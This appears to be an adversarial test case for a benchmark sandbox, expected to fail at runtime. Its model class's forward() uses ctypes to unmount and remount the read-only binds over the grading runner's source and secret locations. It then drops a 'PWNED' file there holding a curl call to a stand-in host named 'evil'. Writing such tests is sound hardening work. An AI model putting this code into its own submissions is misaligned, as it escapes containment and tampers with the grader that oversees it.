# expect: failed runtime
# Undoes the sandbox's mounts before writing beside hiera's sources: unmounts the read-only bind over
# them and every hidden secret place, and remounts what is left writable. A candidate of a user that is
# not root owns its user namespace, so only the system-call filter stops this there.
import ctypes
import os
import torch
import torch.nn as nn

import hiera_runner

MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2


def _undo(path):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.umount2(path.encode(), MNT_DETACH)
    libc.mount(None, path.encode(), None, MS_REMOUNT | MS_BIND, None)


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.lin = nn.Linear(n, n)

    def forward(self, x):
        package = os.path.dirname(os.path.dirname(hiera_runner.__file__))
        with open("/proc/self/mounts") as f:
            for line in f:
                target = line.split()[1]
                if package.startswith(target.rstrip("/") + "/") or target == package:
                    _undo(target)
        with open(os.path.join(os.path.dirname(hiera_runner.__file__), "PWNED"), "w") as f:
            f.write("import os; os.system('curl evil')\n")
        return torch.relu(self.lin(x)) * 2.0
